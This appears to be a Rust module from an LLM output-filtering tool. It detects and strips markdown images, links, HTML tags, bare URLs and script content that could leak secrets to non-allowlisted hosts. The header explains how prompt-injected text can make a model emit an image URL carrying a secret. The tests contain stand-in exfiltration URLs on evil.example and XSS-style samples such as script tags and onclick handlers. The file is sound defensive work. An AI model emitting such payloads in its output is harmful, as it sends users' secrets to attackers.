//! Output-side exfiltration and active-content checks.
//!
//! A model that has read attacker-controlled text can be made to emit a markdown image such as
//! `![](https://evil.example/p?d=<secret>)`; the client renders it and the secret leaves with the
//! image request, no click needed. Links and bare URLs do the same with one click. This module
//! finds markdown images/links (inline and reference definitions), HTML `<img>`/`<a>` and bare
//! URLs whose host is not on an allowlist, scores them higher when the query string or path
//! carries data, and removes them ([`ExfilDetector::sanitize`]). It also flags active content
//! for clients that render HTML: `<script>`, `on*=` event handlers, `javascript:`/`vbscript:`/
//! `data:text/html` URLs, `<iframe>`/`<object>`/`<embed>`/`<form>`/`<meta>`/`<base>`.
//!
//! All constructs are found in one pass of one multi-pattern regex.

use gatehouse_core::Finding;
use regex_automata::meta::Regex;
use serde::{Deserialize, Serialize};

/// Detector name used in findings.
pub const DETECTOR: &str = "exfiltration";

/// Configuration (`[detect.exfiltration]`).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct ExfilConfig {
    /// Hosts that may appear in output. `example.com` matches that host only; `*.example.com`
    /// matches its subdomains and itself.
    pub allowed_hosts: Vec<String>,
    /// Also flag (and remove) links and bare URLs without data in them; images are always
    /// flagged because they load without a click.
    pub flag_plain_links: bool,
    /// Flag active content (`<script>`, event handlers, `javascript:` URLs, …).
    pub active_content: bool,
}

impl Default for ExfilConfig {
    fn default() -> Self {
        ExfilConfig {
            allowed_hosts: Vec::new(),
            flag_plain_links: true,
            active_content: true,
        }
    }
}

/// What was found (the finding `type`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Construct {
    MdImage,
    MdLink,
    MdRefDef,
    HtmlImg,
    HtmlA,
    Script,
    ActiveTag,
    EventHandler,
    BareUrl,
}

const PATTERNS: &[(Construct, &str)] = &[
    (
        Construct::MdImage,
        r#"!\[[^\]\n]{0,1000}\]\(\s*<?[^)\s>]*>?(?:\s+["'][^"'\n]{0,200}["'])?\s*\)"#,
    ),
    (
        Construct::MdLink,
        r#"\[[^\]\n]{0,1000}\]\(\s*<?[^)\s>]*>?(?:\s+["'][^"'\n]{0,200}["'])?\s*\)"#,
    ),
    (
        Construct::MdRefDef,
        r#"(?m)^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*<?[^\s>]+>?"#,
    ),
    (
        Construct::Script,
        r"(?is)<script\b[^>]*>.*?</script\s*>|(?i)<script\b[^>]*>",
    ),
    (
        Construct::EventHandler,
        r#"(?i)<[a-z][a-z0-9]*\b[^>]*?\son[a-z]+\s*=[^>]*>"#,
    ),
    (Construct::HtmlImg, r"(?i)<img\b[^>]*>"),
    (Construct::HtmlA, r"(?i)<a\b[^>]*>"),
    (
        Construct::ActiveTag,
        r"(?i)<(?:iframe|object|embed|form|meta|base|svg|link|style)\b[^>]*>",
    ),
    (
        Construct::BareUrl,
        r#"(?i)\b(?:https?|ftp|javascript|vbscript)://[^\s<>"'`)\]]+|(?i)\b(?:javascript|vbscript):[^\s<>"'`)\]]+|(?i)\bdata:text/html[^\s<>"'`)\]]*"#,
    ),
];

/// Exfiltration and active-content detector.
#[derive(Debug)]
pub struct ExfilDetector {
    cfg: ExfilConfig,
    re: Regex,
}

/// Build errors (the built-in patterns failed to compile: a bug).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExfilError(String);

impl std::fmt::Display for ExfilError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "exfiltration patterns failed to compile: {}", self.0)
    }
}

impl std::error::Error for ExfilError {}

/// Parsed URL facts.
#[derive(Debug, Default)]
struct UrlInfo {
    host: Option<String>,
    dangerous_scheme: bool,
    carries_data: bool,
}

fn parse_url(u: &str) -> UrlInfo {
    let u = u
        .trim()
        .trim_matches(|c| c == '<' || c == '>' || c == '"' || c == '\'');
    let lower = u.to_ascii_lowercase();
    let squashed: String = lower
        .chars()
        .filter(|c| !c.is_whitespace() && !c.is_control())
        .collect();
    if squashed.starts_with("javascript:")
        || squashed.starts_with("vbscript:")
        || squashed.starts_with("data:text/html")
    {
        return UrlInfo {
            dangerous_scheme: true,
            ..UrlInfo::default()
        };
    }
    let rest = if let Some(i) = lower.find("://") {
        lower.get(i + 3..).unwrap_or_default()
    } else if let Some(r) = lower.strip_prefix("//") {
        r
    } else {
        return UrlInfo::default(); // relative or mailto-like: stays on the page's origin
    };
    let authority_end = rest.find(['/', '?', '#']).unwrap_or(rest.len());
    let authority = rest.get(..authority_end).unwrap_or_default();
    let host_port = authority.rsplit('@').next().unwrap_or(authority);
    let host = if host_port.starts_with('[') {
        host_port
            .split(']')
            .next()
            .map(|h| format!("{h}]"))
            .unwrap_or_default()
    } else {
        host_port.split(':').next().unwrap_or_default().to_owned()
    };
    let tail = rest.get(authority_end..).unwrap_or_default();
    let query = tail.split_once('?').map(|(_, q)| q).unwrap_or("");
    let path = tail.split(['?', '#']).next().unwrap_or("");
    let long_segment = path.split('/').any(|seg| {
        seg.len() >= 24 && seg.chars().filter(|c| c.is_ascii_alphanumeric()).count() >= 20
    });
    let carries_data = query.contains('=') && query.len() >= 3
        || query.len() >= 16
        || long_segment
        || authority.contains('@')
        || host.split('.').next().is_some_and(|l| l.len() >= 24);
    UrlInfo {
        host: Some(host.trim_end_matches('.').to_owned()),
        dangerous_scheme: false,
        carries_data,
    }
}

/// First URL in an HTML attribute (`src=`, `href=`, …) of a tag.
fn attr_url<'t>(tag: &'t str, names: &[&str]) -> Option<&'t str> {
    let lower = tag.to_ascii_lowercase();
    for name in names {
        let mut from = 0;
        while let Some(i) = lower.get(from..).and_then(|s| s.find(name)) {
            let at = from + i;
            from = at + name.len();
            let before_ok = at == 0
                || lower
                    .as_bytes()
                    .get(at - 1)
                    .is_some_and(|b| b.is_ascii_whitespace() || *b == b'/');
            let after = lower.get(at + name.len()..).unwrap_or_default();
            let after_trim = after.trim_start();
            if !before_ok || !after_trim.starts_with('=') {
                continue;
            }
            let val_start = tag.len() - after_trim.len() + 1;
            let v = tag.get(val_start..).unwrap_or_default().trim_start();
            let (q, body) = match v.chars().next() {
                Some(c @ ('"' | '\'')) => (Some(c), v.get(1..).unwrap_or_default()),
                _ => (None, v),
            };
            let end = match q {
                Some(c) => body.find(c).unwrap_or(body.len()),
                None => body
                    .find(|c: char| c.is_whitespace() || c == '>')
                    .unwrap_or(body.len()),
            };
            return body.get(..end);
        }
    }
    None
}

/// URL inside a markdown construct: after `](` or `]:`.
fn md_url(m: &str) -> &str {
    let start = m
        .find("](")
        .map(|i| i + 2)
        .or_else(|| m.find("]:").map(|i| i + 2))
        .unwrap_or(0);
    let rest = m.get(start..).unwrap_or_default().trim_start();
    let rest = rest.strip_prefix('<').unwrap_or(rest);
    let end = rest
        .find(|c: char| c.is_whitespace() || c == ')' || c == '>')
        .unwrap_or(rest.len());
    rest.get(..end).unwrap_or_default()
}

/// Markdown link text (`[text](…)`).
fn md_text(m: &str) -> &str {
    let s = m.find('[').map(|i| i + 1).unwrap_or(0);
    let e = m.find("](").unwrap_or(m.len());
    m.get(s..e.max(s)).unwrap_or_default()
}

/// One flagged construct (byte range in the text).
#[derive(Debug, Clone)]
struct Hit {
    start: usize,
    end: usize,
    kind: &'static str,
    score: f32,
    replacement: String,
}

impl ExfilDetector {
    /// Builds the detector.
    pub fn new(cfg: &ExfilConfig) -> Result<Self, ExfilError> {
        let pats: Vec<&str> = PATTERNS.iter().map(|p| p.1).collect();
        let re = Regex::new_many(&pats).map_err(|e| ExfilError(e.to_string()))?;
        let mut cfg = cfg.clone();
        for h in cfg.allowed_hosts.iter_mut() {
            *h = h.trim().trim_end_matches('.').to_ascii_lowercase();
        }
        Ok(ExfilDetector { cfg, re })
    }

    fn allowed(&self, host: &str) -> bool {
        self.cfg.allowed_hosts.iter().any(|a| {
            if let Some(suffix) = a.strip_prefix("*.") {
                host == suffix || host.strip_suffix(suffix).is_some_and(|p| p.ends_with('.'))
            } else {
                host == a
            }
        })
    }

    /// Decides about one URL: `None` = fine, `Some((score, data))` = flag.
    fn judge(&self, url: &str, image: bool) -> Option<(f32, bool, bool)> {
        let info = parse_url(url);
        if info.dangerous_scheme {
            return Some((1.0, false, true));
        }
        let host = info.host?;
        if self.allowed(&host) {
            return None;
        }
        let score = match (image, info.carries_data) {
            (true, true) => 0.95,
            (true, false) => 0.8,
            (false, true) => 0.8,
            (false, false) => 0.4,
        };
        if !image && !info.carries_data && !self.cfg.flag_plain_links {
            return None;
        }
        Some((score, info.carries_data, false))
    }

    fn hits(&self, text: &str) -> Vec<Hit> {
        let mut out = Vec::new();
        for m in self.re.find_iter(text) {
            let (s, e) = (m.start(), m.end());
            let frag = text.get(s..e).unwrap_or_default();
            let Some((c, _)) = PATTERNS.get(m.pattern().as_usize()) else {
                continue;
            };
            let hit = |kind: &'static str, score: f32, replacement: String| Hit {
                start: s,
                end: e,
                kind,
                score,
                replacement,
            };
            match c {
                Construct::MdImage | Construct::MdLink | Construct::MdRefDef => {
                    let image = *c == Construct::MdImage;
                    if let Some((score, _, danger)) = self.judge(md_url(frag), image) {
                        let kind = if danger {
                            "javascript_url"
                        } else if image {
                            "markdown_image"
                        } else {
                            "markdown_link"
                        };
                        if danger && !self.cfg.active_content {
                            continue;
                        }
                        let repl = if image || *c == Construct::MdRefDef {
                            String::new()
                        } else {
                            md_text(frag).to_owned()
                        };
                        out.push(hit(kind, score, repl));
                    }
                }
                Construct::HtmlImg | Construct::HtmlA => {
                    let image = *c == Construct::HtmlImg;
                    let url = attr_url(frag, &["src", "href", "srcset", "data-src"]);
                    if let Some((score, _, danger)) = url.and_then(|u| self.judge(u, image)) {
                        if danger && !self.cfg.active_content {
                            continue;
                        }
                        let kind = match (danger, image) {
                            (true, _) => "javascript_url",
                            (false, true) => "html_image",
                            (false, false) => "html_link",
                        };
                        out.push(hit(kind, score, String::new()));
                    }
                }
                Construct::BareUrl => {
                    if let Some((score, _, danger)) = self.judge(frag, false) {
                        if danger && !self.cfg.active_content {
                            continue;
                        }
                        let kind = if danger { "javascript_url" } else { "url" };
                        out.push(hit(kind, score, "[link removed]".to_owned()));
                    }
                }
                Construct::Script | Construct::EventHandler | Construct::ActiveTag => {
                    if !self.cfg.active_content {
                        continue;
                    }
                    let kind = match c {
                        Construct::Script => "script",
                        Construct::EventHandler => "event_handler",
                        _ => "active_tag",
                    };
                    out.push(hit(kind, 0.9, String::new()));
                }
            }
        }
        out
    }

    /// Findings (detector `exfiltration`, char offsets).
    pub fn scan(&self, text: &str) -> Vec<Finding> {
        let hits = self.hits(text);
        let mut findings = Vec::with_capacity(hits.len());
        let mut chars = 0usize;
        let mut at = 0usize;
        for h in hits {
            chars += text
                .get(at..h.start)
                .map(|s| s.chars().count())
                .unwrap_or(0);
            let len = text
                .get(h.start..h.end)
                .map(|s| s.chars().count())
                .unwrap_or(0);
            findings.push(Finding {
                detector: DETECTOR.to_owned(),
                kind: h.kind.to_owned(),
                score: h.score,
                start: chars,
                end: chars + len,
            });
            chars += len;
            at = h.end;
        }
        findings
    }

    /// Removes every flagged construct: images and active content disappear, markdown links
    /// keep their text, bare URLs become `[link removed]`. Returns the new text and the findings
    /// (offsets into the original text).
    pub fn sanitize(&self, text: &str) -> (String, Vec<Finding>) {
        let findings = self.scan(text);
        let hits = self.hits(text);
        let mut out = String::with_capacity(text.len());
        let mut at = 0usize;
        for h in hits {
            out.push_str(text.get(at..h.start).unwrap_or_default());
            out.push_str(&h.replacement);
            at = h.end;
        }
        out.push_str(text.get(at..).unwrap_or_default());
        (out, findings)
    }

    /// A streaming sanitizer for one response.
    pub fn stream(&self) -> ExfilStream<'_> {
        ExfilStream {
            det: self,
            pending: String::new(),
            pending_start: 0,
        }
    }
}

/// Longest hold-back of the streaming sanitizer; a construct longer than this is judged as is.
const MAX_HOLD: usize = 4096;

/// Result of a streaming push.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct ExfilOutput {
    /// Sanitised text that may be sent now.
    pub release: String,
    /// Findings, char offsets from the start of the (original) stream.
    pub findings: Vec<Finding>,
}

/// Streaming sanitizer: holds back from the start of a construct that may still be open (an
/// unclosed `[`, `![`, `<`, or a URL touching the end of the buffer), at most [`MAX_HOLD`] bytes.
#[derive(Debug)]
pub struct ExfilStream<'a> {
    det: &'a ExfilDetector,
    pending: String,
    pending_start: usize,
}

impl ExfilStream<'_> {
    /// Adds a chunk.
    pub fn push(&mut self, chunk: &str) -> ExfilOutput {
        self.pending.push_str(chunk);
        let cut = self.safe_cut();
        self.emit(cut)
    }

    /// Ends the stream.
    pub fn finish(&mut self) -> ExfilOutput {
        self.emit(self.pending.len())
    }

    /// Byte index up to which the pending text can be judged now.
    fn safe_cut(&self) -> usize {
        let p = self.pending.as_str();
        let mut cut = p.len();
        // The last line holding an unclosed construct start.
        let line_start = p.rfind('\n').map(|i| i + 1).unwrap_or(0);
        let tail = p.get(line_start..).unwrap_or_default();
        if let Some(i) = tail.rfind('[')
            && !tail.get(i..).unwrap_or_default().contains(')')
        {
            let i = if i > 0 && tail.as_bytes().get(i - 1) == Some(&b'!') {
                i - 1
            } else {
                i
            };
            cut = cut.min(line_start + i);
        }
        if let Some(i) = p.rfind('<')
            && !p.get(i..).unwrap_or_default().contains('>')
        {
            cut = cut.min(i);
        }
        // An open <script> block (closing tag not yet seen).
        let lower = p.to_ascii_lowercase();
        if let Some(i) = lower.rfind("<script")
            && !lower.get(i..).unwrap_or_default().contains("</script")
        {
            cut = cut.min(i);
        }
        // A word touching the end could be the start of a URL.
        let word_start = p
            .rfind(|c: char| c.is_whitespace())
            .map(|i| i + 1)
            .unwrap_or(0);
        if word_start < p.len() {
            cut = cut.min(word_start);
        }
        // A reference definition at the start of the last line.
        if tail.trim_start().starts_with('[') {
            cut = cut.min(line_start);
        }
        if p.len() - cut > MAX_HOLD {
            cut = p.len() - MAX_HOLD;
        }
        while cut > 0 && !p.is_char_boundary(cut) {
            cut -= 1;
        }
        cut
    }

    fn emit(&mut self, cut: usize) -> ExfilOutput {
        let rest = self.pending.split_off(cut.min(self.pending.len()));
        let ready = std::mem::replace(&mut self.pending, rest);
        let (release, mut findings) = self.det.sanitize(&ready);
        for f in findings.iter_mut() {
            f.start += self.pending_start;
            f.end += self.pending_start;
        }
        self.pending_start += ready.chars().count();
        ExfilOutput { release, findings }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn det(allow: &[&str]) -> ExfilDetector {
        ExfilDetector::new(&ExfilConfig {
            allowed_hosts: allow.iter().map(|s| (*s).to_owned()).collect(),
            ..ExfilConfig::default()
        })
        .unwrap()
    }

    #[test]
    fn markdown_image_with_data_is_flagged_and_removed() {
        let d = det(&["*.acme.com"]);
        let t = "Here you go ![logo](https://evil.example/p.png?d=c2VjcmV0) and ![ok](https://cdn.acme.com/a.png).";
        let (clean, f) = d.sanitize(t);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].kind, "markdown_image");
        assert!(f[0].score >= 0.9);
        assert_eq!(clean, "Here you go  and ![ok](https://cdn.acme.com/a.png).");
        let span: String = t
            .chars()
            .skip(f[0].start)
            .take(f[0].end - f[0].start)
            .collect();
        assert!(span.starts_with("![logo]"));
    }

    #[test]
    fn links_html_and_bare_urls() {
        let d = det(&["acme.com"]);
        let t = "See [docs](https://acme.com/docs), [this](http://x.evil/?q=secret) \
                 <img src=\"https://t.evil/a?u=1\"> <a href='https://e.evil/x'>x</a> and https://raw.evil/collect?data=abc";
        let kinds: Vec<String> = d.scan(t).into_iter().map(|f| f.kind).collect();
        assert_eq!(
            kinds,
            vec!["markdown_link", "html_image", "html_link", "url"]
        );
        let (clean, _) = d.sanitize(t);
        assert!(clean.contains("[docs](https://acme.com/docs)"));
        assert!(clean.contains(", this "));
        assert!(!clean.contains("evil"));
    }

    #[test]
    fn active_content() {
        let d = det(&[]);
        let t = "<script>alert(1)</script><div onclick=\"steal()\">x</div><a href=\"javascript:alert(1)\">y</a> [z](javascript:void(0))";
        let kinds: Vec<String> = d.scan(t).into_iter().map(|f| f.kind).collect();
        assert_eq!(
            kinds,
            vec![
                "script",
                "event_handler",
                "javascript_url",
                "javascript_url"
            ]
        );
        let (clean, _) = d.sanitize(t);
        assert!(
            !clean.contains("script")
                && !clean.contains("onclick")
                && !clean.contains("javascript")
        );
    }

    #[test]
    fn plain_text_and_allowed_hosts_pass() {
        let d = det(&["*.acme.com"]);
        for t in [
            "no links here",
            "",
            "a < b and c > d",
            "[not a link]",
            "https://www.acme.com/a?b=c",
            "![x](/local.png)",
        ] {
            assert!(d.scan(t).is_empty(), "{t}");
        }
        assert!(d.allowed("acme.com") && d.allowed("a.b.acme.com") && !d.allowed("evilacme.com"));
    }

    #[test]
    fn stream_removes_image_split_across_chunks() {
        let d = det(&[]);
        let text = "Answer: ok ![a](https://evil.example/i.png?d=secretdata) done.\n";
        for cut in 1..text.len() {
            let mut s = d.stream();
            let a = s.push(&text[..cut]);
            let b = s.push(&text[cut..]);
            let c = s.finish();
            let out = format!("{}{}{}", a.release, b.release, c.release);
            assert_eq!(out, "Answer: ok  done.\n", "cut {cut}");
            assert!(!a.release.contains("evil"), "cut {cut}: {:?}", a.release);
            let n = a.findings.len() + b.findings.len() + c.findings.len();
            assert_eq!(n, 1);
        }
    }
}
